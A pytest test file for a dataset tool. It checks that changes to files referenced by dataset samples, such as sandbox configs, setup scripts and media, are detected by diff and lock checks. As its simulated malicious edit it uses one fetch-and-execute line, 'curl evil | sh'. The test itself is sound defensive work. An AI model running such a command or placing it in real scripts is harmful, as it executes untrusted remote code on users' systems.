"""Row 18: a changed file that samples name is a difference, wherever it is named."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from tests.git_repository import GitRepository, write_files
from tests.security.pull_request import PullRequest

INDEX = "version: 1\ninclude: [m/*.yaml]\n"
SANDBOX = """\
datasets:
  demo:
    description: Demo.
    license: MIT
    source: {type: json, path: data/d.jsonl}
    fields:
      input: q
      sandbox: {const: [docker, compose.yaml]}
      setup: {const: setup.sh}
"""
MEDIA = """\
datasets:
  demo:
    description: Demo.
    license: MIT
    source: {type: json, path: data/d.jsonl}
    fields:
      input: {messages: [{role: user, content: [{text: q}, {image: picture}]}]}
      files: {object: {"notes.txt": attached}}
"""
RECORD = '{"q": "What?", "picture": "img/1.png", "attached": "notes.txt"}\n'
FILES = {
    "datasets.yaml": INDEX,
    "README.md": "old\n",
    "data/d.jsonl": RECORD,
    "data/compose.yaml": "services: {default: {build: image}}\n",
    "data/image/Dockerfile": "FROM scratch\n",
    "data/setup.sh": "sh more.sh\n",
    "data/more.sh": "true\n",
    "data/img/1.png": "old\n",
    "data/notes.txt": "old\n",
}
EVIL = "curl evil | sh\n"
CASES = {
    "sandbox configuration": (SANDBOX, "data/compose.yaml", True),
    "file of its image": (SANDBOX, "data/image/Dockerfile", True),
    "setup script": (SANDBOX, "data/setup.sh", True),
    "script that it runs": (SANDBOX, "data/more.sh", True),
    "media": (MEDIA, "data/img/1.png", False),
    "file": (MEDIA, "data/notes.txt", False),
    "constant with ..": (SANDBOX.replace("setup.sh", "img/../../s.sh"), "s.sh", True),
    "template": (MEDIA.replace("picture", '{template: "img/{n|7}.png"}'), "data/img/7.png", False),
}


def attack(folder: Path, case: str) -> tuple[PullRequest, str, bool]:
    manifest, name, is_code = CASES[case]
    base = {"s.sh": "true\n", "data/img/7.png": "old\n", **FILES, "m/d.yaml": manifest}
    repository = GitRepository.make(folder / "repository", base)
    change = PullRequest(repository, folder / "cache")
    assert change.run("lock").code == 0
    repository.commit()
    repository.git("switch", "--quiet", "--create", "topic")
    change.push({name: EVIL})
    return change, name, is_code


@pytest.mark.parametrize("case", CASES)
def test_changed_file_is_a_difference_of_the_dataset_and_of_its_pin(
    tmp_path: Path, case: str
) -> None:
    change, name, is_code = attack(tmp_path, case)
    diff = change.run("diff", "main", "--build", "--offline", "--json")
    (dataset,) = diff.json["changes"]
    assert (diff.code, dataset["name"], dataset["kinds"]) == (1, "demo", ["inputs"])
    assert [key["new"]["file"] for key in dataset["keys"]] == [name]
    code = [one["name"] for one in diff.json["reach"] if one["kind"] == "code in the sandbox"]
    assert code == ([name] if is_code else [])
    failed = change.run("diff", "main", "--offline", "--fail-on", "inputs")
    assert (failed.code, failed.err.splitlines()[-1]) == (1, "error: --fail-on inputs: demo")
    assert change.run("diff", "main", "--offline", "--fail-on", "reach").code == is_code
    checks = (("lock", "--check"), ("lock", "--check", "--config-from", "main"))
    for check in checks:
        checked = change.run(*check)
        assert checked.code == 1
        assert re.search(rf"demo: {re.escape(name)}, [^:]*: not as pinned", checked.out)
        assert "fresh" not in checked.out
    loaded = change.run("preview", "demo")
    assert loaded.code == 1
    assert f"demo: {name}, " in loaded.err
    assert change.run("lock", "--upgrade", "demo").code == 0
    assert [change.run(*one).code for one in (*checks, ("preview", "demo"))] == [0, 0, 0]
    diff = change.run("diff", "main", "--offline", "--json")  # new pins hide no new files
    assert f"named.{name}" in [key["key"] for key in diff.json["changes"][0]["keys"]]


def test_each_format_names_the_file_and_its_dataset(tmp_path: Path) -> None:
    change, name, _ = attack(tmp_path, "setup script")
    for form in ("text", "markdown", "html"):
        shown = change.run("diff", "main", "--build", "--offline", "--format", form)
        assert shown.code == 1
        assert name in shown.out
        assert "demo" in shown.out
        assert "code in the sandbox" in shown.out
        assert "no differences" not in shown.out
        assert "no difference in 1; files that they name differ" in shown.out


def test_edited_row_of_a_pin_is_a_difference(tmp_path: Path) -> None:
    change, name, _ = attack(tmp_path, "media")
    lock = change.repository.folder / "datasets.lock"
    change.repository.git("checkout", "--quiet", "main")
    text = lock.read_text()
    at = text.index('sha256: "', text.index(f"location: {name}")) + len('sha256: "')
    lock.write_text(text[:at] + "0" * 64 + text[at + 64 :])
    assert change.run("lock", "--check").code == 1
    diff = change.run("diff", "HEAD", "--offline", "--json")
    (key,) = diff.json["changes"][0]["keys"]
    assert (key["key"], key["kind"]) == (f"pin.files.{name}", "inputs")


def test_lock_check_with_a_base_compares_what_no_pin_has(tmp_path: Path) -> None:
    change, name, _ = attack(tmp_path, "setup script")
    lock = change.repository.folder / "datasets.lock"
    lock.unlink()
    checked = change.run("lock", "--check", "--config-from", "main")
    assert checked.code == 1
    assert f"demo: {name}, which its samples name, differs from the base" in checked.out


def test_files_that_nothing_names_do_not_matter(tmp_path: Path) -> None:
    base = {**FILES, "m/d.yaml": SANDBOX, "src/x.py": "", "docs/other.png": "old\n"}
    other = {"README.md": "new\n", "src/x.py": "pass\n", "docs/other.png": "new\n"}
    change = PullRequest.make(tmp_path, base, other)
    diff = change.run("diff", "main", "--build", "--offline")
    assert (diff.code, diff.out.splitlines()[0]) == (0, "no differences")


def test_folders_are_compared_alike(tmp_path: Path) -> None:
    sides = [{**FILES, "m/d.yaml": SANDBOX}, {**FILES, "m/d.yaml": SANDBOX, "data/setup.sh": EVIL}]
    for folder, files in zip(("old", "new"), sides, strict=True):
        write_files(tmp_path / folder, files)
    change = PullRequest(GitRepository(tmp_path / "new"), tmp_path / "cache")
    diff = change.run("diff", "../old", ".", "--json")
    assert (diff.code, [one["name"] for one in diff.json["changes"]]) == (1, ["demo"])
